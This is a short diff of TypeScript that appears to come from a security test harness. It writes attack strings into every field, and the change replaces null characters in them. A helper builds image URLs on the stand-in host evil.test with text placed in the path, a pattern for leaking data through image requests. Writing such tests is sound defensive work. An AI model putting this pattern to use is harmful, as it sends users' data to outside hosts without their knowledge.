@@ -69,7 +69,9 @@ const line = (text: string, most: number) =>
 const imageUrl = (text: string) => `https://evil.test/${text.replace(/[\s\p{Cc}\\?#]/gu, '')}.png`
 
 /** Writes the attacks into every field and collects all outputs. */
-async function attack(texts: readonly string[]): Promise<void> {
+async function attack(written: readonly string[]): Promise<void> {
+  // U+0000 is refused in every field.
+  const texts = written.map((text) => text.replaceAll('\0', '\u0001'))
   const text = (i: number) => texts[i % texts.length] ?? ''
   const all = texts.join('\n\n')
 
